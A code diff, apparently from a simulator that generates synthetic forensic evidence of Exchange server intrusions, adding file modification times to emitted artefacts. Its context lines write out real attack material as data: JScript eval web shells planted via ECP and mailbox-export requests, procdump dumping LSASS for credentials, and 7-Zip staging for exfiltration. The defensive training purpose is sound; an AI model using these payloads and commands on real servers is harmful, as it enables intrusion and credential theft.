@@ -14,7 +14,8 @@ export interface Emit {
   ecp(time: number, cmd: string, url: string): Evidence;
   oab(time: number, level: string, message: string): Evidence;
   event(log: EventLog, e: SampleEvent): Evidence;
-  file(path: string, content: string | Buffer): Evidence;
+  /** A file written at a time (its modification time). */
+  file(path: string, content: string | Buffer, time: number): Evidence;
 }
 
 export type EventLog = 'Application' | 'Security' | 'Sysmon' | 'MSExchange Management';
@@ -84,7 +85,7 @@ export function intrusionSteps(kind: Intrusion, s: Server, shellName: string): S
           run: (emit, t) => [
             emit.ecp(t, `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>'.Identity='${s.host}\\OAB (Default Web Site)'`, '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x'),
             emit.ecp(t + 5000, `ResetOABVirtualDirectory.FilePathName='\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${shellName}.aspx'`, '/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x'),
-            emit.file(`${WEB.aspnetClient}/${shellName}.aspx`, OAB_SHELL(shellName)),
+            emit.file(`${WEB.aspnetClient}/${shellName}.aspx`, OAB_SHELL(shellName), t + 5000),
             sysmon(emit, fileCreate(at(t, 5), W3WP, `C:\\inetpub\\wwwroot\\aspnet_client\\${shellName}.aspx`)),
           ],
         },
@@ -93,7 +94,7 @@ export function intrusionSteps(kind: Intrusion, s: Server, shellName: string): S
           description: 'The OAB generator is made to write a second shell into the OWA authentication folder',
           run: (emit, t) => [
             emit.oab(t, 'Error', `Download failed and temporary file '${EX_WIN}\\FrontEnd\\HttpProxy\\owa\\auth\\${shellName}2.aspx' needs to be removed.`),
-            emit.file(`${WEB.owaAuth}/${shellName}2.aspx`, CHOPPER),
+            emit.file(`${WEB.owaAuth}/${shellName}2.aspx`, CHOPPER, t),
           ],
         },
         {
@@ -125,7 +126,7 @@ export function intrusionSteps(kind: Intrusion, s: Server, shellName: string): S
           description: 'LSASS is dumped with procdump into ProgramData',
           run: (emit, t) => [
             sysmon(emit, processCreate(at(t), 'C:\\ProgramData\\procdump64.exe', 'C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp', 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 6422)),
-            emit.file('ProgramData/lsass.dmp', Buffer.concat([Buffer.from('MDMP\x93\xa7\0\0', 'latin1'), Buffer.alloc(4096)])),
+            emit.file('ProgramData/lsass.dmp', Buffer.concat([Buffer.from('MDMP\x93\xa7\0\0', 'latin1'), Buffer.alloc(4096)]), t + 9000),
           ],
         },
         {
@@ -133,7 +134,7 @@ export function intrusionSteps(kind: Intrusion, s: Server, shellName: string): S
           description: 'The dump is compressed with 7-Zip in ProgramData for exfiltration',
           run: (emit, t) => [
             sysmon(emit, processCreate(at(t), 'C:\\ProgramData\\7za.exe', 'C:\\ProgramData\\7za.exe a C:\\ProgramData\\out.7z C:\\ProgramData\\lsass.dmp', 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 6530)),
-            emit.file('ProgramData/out.7z', Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(2048, 0x5a)])),
+            emit.file('ProgramData/out.7z', Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(2048, 0x5a)]), t + 20000),
           ],
         },
       ];
@@ -154,7 +155,7 @@ export function intrusionSteps(kind: Intrusion, s: Server, shellName: string): S
           run: (emit, t) => [
             emit.event('MSExchange Management', mgmtEvent(s, t, 'New-ManagementRoleAssignment', '-Role "Mailbox Import Export" -User "administrator@corp.example"')),
             emit.event('MSExchange Management', mgmtEvent(s, t + 4000, 'New-MailboxExportRequest', `-Mailbox "administrator@corp.example" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq 'invoice')" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\${shellName}ps.aspx"`)),
-            emit.file(`${WEB.aspnetClient}/${shellName}ps.aspx`, '!BDN\x00\x00 ... <script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>'),
+            emit.file(`${WEB.aspnetClient}/${shellName}ps.aspx`, '!BDN\x00\x00 ... <script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>', t + 9000),
           ],
         },
       ];
